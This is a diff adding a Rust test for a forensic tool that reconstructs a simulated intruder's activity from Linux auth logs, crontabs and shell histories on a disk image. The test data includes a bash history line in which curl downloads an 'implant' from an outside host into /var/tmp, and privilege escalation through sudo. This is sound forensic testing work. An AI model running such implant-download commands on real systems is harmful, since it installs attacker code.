@@ -360,3 +360,220 @@ fn cron_activity_in_syslog_and_its_gzip_rotation() {
         "no year in the syslog time: the file's"
     );
 }
+
+/// The authentication log line by line as `icat` reads it from the image (the oracle for
+/// what the file says), keyed by line number.
+fn icat_lines(image: &std::path::Path, entry: Option<u64>) -> Option<Vec<String>> {
+    let text = tool(
+        "icat",
+        &[image.to_str()?, &entry.expect("inode").to_string()],
+    )?;
+    Some(text.lines().map(str::to_string).collect())
+}
+
+#[test]
+fn logons_sudo_account_changes_and_shell_histories() {
+    // corpus/build.sh build_linux_auth: rsyslogd wrote what sshd, sudo, useradd, usermod,
+    // chpasswd and crontab logged while mallory logged on over ssh; bash and zsh wrote her
+    // histories.
+    let image = corpus_image("linux-auth");
+    let r = Evidence::open(&image).expect("open").scan(ScanSet::all());
+    assert!(r.errors.is_empty(), "{:?}", r.errors);
+    let auth: Vec<_> = r
+        .events
+        .iter()
+        .filter(|e| e.source.path == "/var/log/auth.log")
+        .collect();
+    // Every line of the file that names one of the recognised forms is an event, and the
+    // event's fields are that line's words.
+    let lines = icat_lines(&image, auth[0].source.entry);
+    if let Some(lines) = &lines {
+        let mut n = 0;
+        for (i, l) in lines.iter().enumerate() {
+            let words: Vec<&str> = l.split_whitespace().collect();
+            let at = auth.iter().find(|e| e.source.line == Some(i as u32 + 1));
+            if let Some(p) = l.find("Accepted publickey for ") {
+                let e = at.unwrap_or_else(|| panic!("line {}: {l}", i + 1));
+                let w: Vec<&str> = l[p..].split_whitespace().collect();
+                assert_eq!(e.event.data["action"], "ssh_accepted");
+                assert_eq!(e.event.user.as_deref(), Some(w[3]));
+                assert_eq!(e.event.data["source_address"], w[5]);
+                assert_eq!(e.event.data["source_port"], w[7]);
+                assert_eq!(e.event.data["method"], "publickey");
+                assert_eq!(
+                    e.event.timestamp.map(|t| t.unix_seconds()),
+                    foothold::Timestamp::parse_rfc3339(words[0]).map(|t| t.unix_seconds())
+                );
+                n += 1;
+            }
+            if l.contains(" sudo: ") && l.contains("COMMAND=") {
+                let e = at.unwrap_or_else(|| panic!("line {}: {l}", i + 1));
+                assert_eq!(
+                    e.event.command_line.as_deref(),
+                    l.split_once("COMMAND=").map(|x| x.1)
+                );
+                n += 1;
+            }
+            if l.contains("pam_limits") || l.contains("Server listening") {
+                assert!(at.is_none(), "not a logon or change: {l}");
+            }
+        }
+        assert_eq!(n, 6, "4 ssh logons and 2 sudo lines");
+        compared("icat", n);
+    }
+    let action = |a: &'static str| auth.iter().filter(move |e| e.event.data["action"] == a);
+    assert_eq!(action("ssh_accepted").count(), 4);
+    let invalid: Vec<_> = action("ssh_invalid_user").collect();
+    assert_eq!(
+        (invalid.len(), invalid[0].event.user.as_deref()),
+        (1, Some("ghost"))
+    );
+    let added = action("user_added").next().expect("useradd");
+    assert_eq!(added.event.data["target_user"], "mallory");
+    assert_eq!(
+        (
+            added.event.data["uid"].as_str(),
+            added.event.data["home"].as_str()
+        ),
+        ("1337", "/home/mallory")
+    );
+    let groups: Vec<_> = action("group_member_added")
+        .map(|e| (e.event.data["group"].as_str(), e.event.data.get("database")))
+        .collect();
+    assert_eq!(
+        groups,
+        [("sudo", None), ("sudo", Some(&"gshadow".to_string()))]
+    );
+    let sudo: Vec<_> = action("sudo").collect();
+    assert_eq!(sudo.len(), 2);
+    assert_eq!(sudo[0].event.data["refused"], "a password is required");
+    assert_eq!(sudo[0].event.data["target_user"], "root");
+    assert!(!sudo[1].event.data.contains_key("refused"));
+    assert_eq!(
+        sudo[1].account.as_ref().and_then(|a| a.id),
+        Some(1337),
+        "the sudo user resolves to her passwd entry"
+    );
+    // The same lines in the traditional format: the time is kept as written, no year guessed.
+    let secure: Vec<_> = r
+        .events
+        .iter()
+        .filter(|e| e.source.path == "/var/log/secure")
+        .collect();
+    assert_eq!(secure.len(), auth.len());
+    assert!(secure.iter().all(|e| e.event.timestamp.is_none()));
+    assert!(secure[0].event.data["time"].starts_with("Dec  1 "));
+
+    // root's crontab was installed by crontab running as root, started through sudo by
+    // mallory: she is the creator, and the sudo line is the evidence.
+    let root_tab = find(&r, "/var/spool/cron/crontabs/root", Some(4));
+    let by = root_tab.created_by.as_ref().expect("created_by");
+    assert_eq!(by.user.as_deref(), Some("mallory"));
+    assert_eq!(by.flags, ["installed_through_sudo"]);
+    let kinds: Vec<&str> = by.evidence.iter().map(|e| e.kind.as_str()).collect();
+    assert_eq!(
+        kinds,
+        [
+            "crontab_replace",
+            "sudo_command",
+            "file_owner",
+            "file_created"
+        ]
+    );
+    assert!(by.evidence[1].value.starts_with("mallory as root at "));
+    assert!(
+        by.when > sudo[1].event.timestamp,
+        "REPLACE follows the sudo line"
+    );
+    let own = find(&r, "/var/spool/cron/crontabs/mallory", Some(4));
+    assert_eq!(
+        own.created_by
+            .as_ref()
+            .map(|c| (c.user.as_deref(), c.flags.len())),
+        Some((Some("mallory"), 0))
+    );
+
+    // Histories: bash with HISTTIMEFORMAT (each command after its `#epoch` line), zsh's
+    // extended history, root's bash history without times.
+    let history = |path: &str| -> Vec<&foothold::EventRecord> {
+        r.events.iter().filter(|e| e.source.path == path).collect()
+    };
+    let bash = history("/home/mallory/.bash_history");
+    assert_eq!(bash.len(), 4);
+    if let Some(lines) = icat_lines(&image, bash[0].source.entry) {
+        for e in &bash {
+            let line = e.source.line.expect("line") as usize;
+            assert_eq!(
+                e.event.command_line.as_deref(),
+                Some(lines[line - 1].as_str())
+            );
+            let stamp: i64 = lines[line - 2][1..].parse().expect("#epoch line before it");
+            assert_eq!(e.event.timestamp.map(|t| t.unix_seconds()), Some(stamp));
+        }
+        compared("icat", bash.len());
+    }
+    assert_eq!(
+        bash[1].event.command_line.as_deref(),
+        Some("curl -s -m 1 http://203.0.113.9/implant -o /var/tmp/.implant")
+    );
+    assert!(bash
+        .iter()
+        .all(|e| e.event.data["time_source"] == "histtimeformat"
+            && e.event.user.as_deref() == Some("mallory")));
+    let zsh = history("/home/mallory/.zsh_history");
+    assert_eq!(zsh.len(), 4);
+    assert_eq!(
+        zsh[2].event.command_line.as_deref(),
+        Some("rm -f /var/tmp/.implant")
+    );
+    assert_eq!(zsh[2].event.data["time_source"], "extended_history");
+    let root_h = history("/root/.bash_history");
+    assert_eq!(root_h.len(), 2);
+    assert!(root_h
+        .iter()
+        .all(|e| e.event.timestamp.is_none() && e.event.data["time_source"] == "none"));
+
+    // What mallory did, in order: account changes, logons, sudo, her crontab, root's
+    // crontab through sudo, her commands; untimed records (her account, the year-less
+    // `secure` lines) last.
+    let act = r.activity(&foothold::Who::new("mallory"), None);
+    let summary: Vec<(String, Option<foothold::Timestamp>)> = act
+        .iter()
+        .map(|x| {
+            let s = x.summary();
+            (s.kind, s.time)
+        })
+        .collect();
+    let times: Vec<_> = summary.iter().filter_map(|x| x.1).collect();
+    assert!(times.windows(2).all(|w| w[0] <= w[1]), "{summary:?}");
+    assert!(
+        summary.iter().skip(times.len()).all(|x| x.1.is_none()),
+        "untimed last"
+    );
+    let kinds: Vec<&str> = summary.iter().map(|x| x.0.as_str()).collect();
+    let pos = |k: &str| {
+        kinds
+            .iter()
+            .position(|x| *x == k)
+            .unwrap_or_else(|| panic!("{k}: {kinds:?}"))
+    };
+    assert!(pos("auth user_added") < pos("auth ssh_accepted"));
+    assert!(pos("auth ssh_accepted") < pos("auth sudo"));
+    // bash keeps whole seconds: her bash commands (run in the third ssh logon, at
+    // 13:37:59.85) sort at 13:37:59.000, before that logon; zsh's follow it.
+    assert!(pos("auth sudo") < pos("shell_history zsh"));
+    assert!(pos("shell_history bash") < pos("shell_history zsh"));
+    assert_eq!(
+        act.iter()
+            .filter(|x| matches!(x, foothold::Record::CronJob(_)))
+            .count(),
+        2,
+        "her crontab and root's, installed through sudo"
+    );
+    assert!(
+        !act.iter().any(
+            |x| matches!(x, foothold::Record::Event(e) if e.source.path == "/root/.bash_history")
+        ),
+        "root's history is not hers"
+    );
+}
